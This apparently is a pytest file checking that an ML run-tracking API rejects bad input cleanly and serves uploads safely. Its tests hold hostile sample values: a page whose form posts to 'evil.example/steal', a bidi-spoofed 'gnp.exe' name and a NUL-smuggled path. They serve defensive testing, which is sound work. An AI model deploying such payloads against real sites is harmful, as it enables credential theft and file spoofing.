"""Bad input is a 4xx naming the problem, never a 500 (issue 12, row 8), and a refusal echoes at
most a few hundred characters of what it refused (row 12)."""

from __future__ import annotations

import json

import pytest

from tests.utils.factories import API, epoch_points, finish_run, post_points, started_run, valid_spec

JSON = {"content-type": "application/json"}


def _locs(response) -> list[list]:
    return [error["loc"] for error in response.json()["detail"]]


def test_a_lone_surrogate_in_a_name_is_a_422_naming_it(client):
    body = '{"name": "\\ud800", "spec": ' + json.dumps(valid_spec()) + "}"
    response = client.post(f"{API}/runs", content=body, headers=JSON)
    assert response.status_code == 422, response.text
    assert _locs(response) == [["body", "name"]]
    assert response.json()["detail"][0]["input"] == "\\ud800"  # echoed as its escape
    tracked = client.post(f"{API}/runs/track", content='{"config": {"\\udc00": 1}}', headers=JSON)
    assert tracked.status_code in (201, 422), tracked.text  # stored escaped or refused, never a 500


def test_json_nested_hundreds_deep_is_a_422(client):
    body = '{"name": "x", "spec": ' + "[" * 500 + "]" * 500 + "}"
    response = client.post(f"{API}/runs", content=body, headers=JSON)
    assert response.status_code == 422, response.text
    assert _locs(response)[0][:2] == ["body", "spec"]


def test_a_step_or_event_id_past_the_stores_integers_is_a_422(client):
    run = started_run(client)
    post_points(client, run["id"], epoch_points(1))
    huge = "99999999999999999999999"
    response = client.get(f"{API}/runs/{run['id']}/metrics", params={"since_step": huge})
    assert response.status_code == 422 and _locs(response) == [["query", "since_step"]], response.text
    response = client.get(f"{API}/runs/{run['id']}/events", headers={"Last-Event-ID": huge})
    assert response.status_code == 422 and _locs(response) == [["header", "last-event-id"]], response.text


def test_a_refusal_echoes_only_the_start_of_a_big_input(client):
    name = "x" * 5_000_000  # far over the 200 characters a name may have
    response = client.post(f"{API}/runs", json={"name": name, "spec": valid_spec()})
    assert response.status_code == 422
    assert len(response.content) < 2_000
    (error,) = response.json()["detail"]
    assert error["loc"] == ["body", "name"] and error["input"].startswith("xxx") and len(error["input"]) <= 201


def test_the_report_takes_runs_that_never_reported_a_point(client):
    """Row 7: a run that failed before its first epoch, beside one with curves, in every report form."""
    done = started_run(client, name="with curves")
    post_points(client, done["id"], epoch_points(1) + [{"name": "test_accuracy", "step": 1, "value": 0.5}])
    finish_run(client, done["id"])
    empty = started_run(client, name="failed at once")
    finish_run(client, empty["id"], status="failed")
    for params in ({}, {"x": "time"}, {"band": "ci"}, {"group_by": "seed"}, {"metric": "test_loss"}):
        for ids in ([done["id"], empty["id"]], [empty["id"]]):
            response = client.get(f"{API}/compare/report", params={"run_id": ids, **params})
            assert response.status_code == 200, (params, ids, response.text[:300])
            assert "failed at once" in response.text


# Row 12: loose input.


@pytest.mark.parametrize(
    ("field", "value"),
    [("epochs", "1"), ("epochs", True), ("epochs", 2.0), ("learning_rate", "0.1"), ("learning_rate", True),
     ("deterministic", 1), ("deterministic", "true"), ("seed", "3")],
)  # fmt: skip
def test_numbers_and_booleans_are_taken_as_json_types_only(client, field, value):
    response = client.post(f"{API}/runs", json={"spec": valid_spec(**{field: value})})
    assert response.status_code == 422, response.text
    assert _locs(response) == [["body", "spec", field]]
    assert client.get(f"{API}/runs").json()["count"] == 0


def test_an_option_of_an_optimizer_is_taken_as_its_json_type_too(client):
    spec = valid_spec(optimizer={"name": "sgd", "momentum": "0.9", "nesterov": 1})
    response = client.post(f"{API}/runs", json={"spec": spec})
    assert response.status_code == 422
    assert _locs(response) == [["body", "spec", "optimizer", "momentum"], ["body", "spec", "optimizer", "nesterov"]]


def test_an_int_is_still_a_number_and_an_array_a_pair(client):
    spec = valid_spec(learning_rate=1, optimizer={"name": "adam", "betas": [0.8, 0.99]})
    assert client.post(f"{API}/runs", json={"spec": spec}).status_code == 201


@pytest.mark.parametrize("name", ["\u202e", "\u200b", "\u200b\u200b", " \u2060 ", "   ", "run\u202egnp.exe"])
def test_a_label_needs_a_visible_character_and_no_bidi_control(client, name):
    response = client.post(f"{API}/runs", json={"name": name, "spec": valid_spec()})
    assert response.status_code == 422 and _locs(response) == [["body", "name"]], response.text
    tracked = client.post(f"{API}/runs/track", json={"name": name})
    assert tracked.status_code == 422 and _locs(tracked) == [["body", "name"]]


def test_a_nul_in_a_spec_path_is_refused(client):
    spec = valid_spec(model="unet", dataset={"name": "lung_xray", "images_dir": "scans\x00/etc"})
    response = client.post(f"{API}/runs", json={"spec": spec})
    assert response.status_code == 422, response.text
    assert _locs(response) == [["body", "spec", "dataset", "images_dir"]]


def test_an_artifact_name_cannot_be_both_a_file_and_a_folder(client):
    run = started_run(client)
    put = lambda name: client.put(f"{API}/runs/{run['id']}/artifacts/{name}?attempt=1", content=b"1")  # noqa: E731
    assert put("a").status_code == 201 and put("c/d").status_code == 201
    for name in ("a/b", "c"):
        response = put(name)
        assert response.status_code == 409 and "both a file and a folder" in response.json()["detail"], name
    assert client.get(f"{API}/runs/{run['id']}/artifacts/a").content == b"1"


# Row 9: uploaded pages never run in the dashboard's origin.


def test_uploaded_html_and_svg_are_downloads_in_a_sandbox(client):
    run = started_run(client)
    page = b"<form action='https://evil.example/steal' method='post'><input name='t'></form><script>1</script>"
    for name in ("evil.html", "evil.svg", "notes.txt"):
        assert client.put(f"{API}/runs/{run['id']}/artifacts/{name}?attempt=1", content=page).status_code == 201
        served = client.get(f"{API}/runs/{run['id']}/artifacts/{name}")
        assert served.headers["content-disposition"].startswith("attachment"), name
        policy = served.headers["content-security-policy"]
        assert policy.startswith("sandbox") and "default-src 'none'" in policy, name
    png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 16
    client.put(f"{API}/runs/{run['id']}/artifacts/overlays/epoch_001.png?attempt=1", content=png)
    shown = client.get(f"{API}/runs/{run['id']}/artifacts/overlays/epoch_001.png")
    assert shown.headers["content-disposition"].startswith("inline") and shown.headers["content-type"] == "image/png"
    assert shown.headers["content-security-policy"].startswith("sandbox")
